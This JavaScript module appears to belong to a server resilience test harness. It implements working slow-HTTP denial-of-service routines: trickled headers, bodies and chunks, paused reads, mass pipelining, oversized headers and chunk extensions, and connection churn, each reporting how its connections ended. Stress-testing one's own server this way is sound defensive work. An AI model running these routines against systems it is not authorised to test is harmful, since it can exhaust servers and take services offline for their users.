// What keeps an HTTP server busy: each attack goes on while it may, and answers how its connections ended.
import { answers_in, raw_http } from './raw_http.mjs';
import { pause, tally_while } from './wait.mjs';

const post = 'POST /api/ingest/notes HTTP/1.1\r\nHost: x\r\n';

/** The statuses that came until the server closed, or `open`. */
async function end_of(c, go_on) {
  await c.until(() => c.ended || !go_on(), 60_000);
  c.destroy();
  return c.ended ? answers_in(c.bytes).map((a) => a.status).join(' ') || 'closed' : 'open';
}

/** Sends a byte now and then until the server has had enough. */
const trickle = (url, go_on, head, bytes) => async () => {
  const c = new raw_http(url);
  c.send(head);
  for (let n = 0; !c.ended && go_on() && n < 1_000; n++) {
    c.send(bytes);
    await c.until(() => c.ended, 50);
  }
  return end_of(c, go_on);
};

export const attacks = {
  slow_headers: (url, go_on) => tally_while(go_on, 100, trickle(url, go_on, 'GET /healthz HTTP/1.1\r\nHost: x\r\nX: ', 'a')),
  slow_bodies: (url, go_on) => tally_while(go_on, 50, trickle(url, go_on, `${post}Content-Length: 60000\r\n\r\n`, ' ')),
  slow_chunks: (url, go_on) => tally_while(go_on, 50, trickle(url, go_on, `${post}Transfer-Encoding: chunked\r\n\r\n`, '1;a=b\r\n \r\n')),
  slow_reads: (url, go_on) => tally_while(go_on, 10, async () => {
    const c = new raw_http(url);
    c.socket.pause();
    c.send('GET /customer/large HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(20));
    for (let n = 0; go_on() && n < 50; n++) await pause(20);
    c.destroy();
    return 'left';
  }),
  pipelines: (url, go_on) => tally_while(go_on, 2, async () => {
    const c = new raw_http(url);
    c.send('GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(300) + 'GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
    await c.until(() => c.ended, 20_000);
    c.destroy();
    await pause(5);
    return answers_in(c.bytes).filter((a) => a.status === 200).length;
  }),
  large_headers: (url, go_on) => tally_while(go_on, 2, async () => {
    const c = new raw_http(url);
    c.send(`GET /healthz HTTP/1.1\r\nHost: x\r\nX: ${'a'.repeat(65_536)}\r\n\r\n`);
    await pause(5);
    return end_of(c, () => true);
  }),
  extensions: (url, go_on) => tally_while(go_on, 1, async () => {
    const c = new raw_http(url);
    c.send(`${post}Connection: close\r\nTransfer-Encoding: chunked\r\n\r\n${`1;${'x'.repeat(4000)}\r\n \r\n`.repeat(100)}0\r\n\r\n`);
    await pause(5);
    return end_of(c, () => true);
  }),
  comes_and_goes: (url, go_on) => tally_while(go_on, 4, async () => {
    const c = new raw_http(url);
    await c.until(() => c.ended, 5);
    c.destroy();
    return 'left';
  }),
};
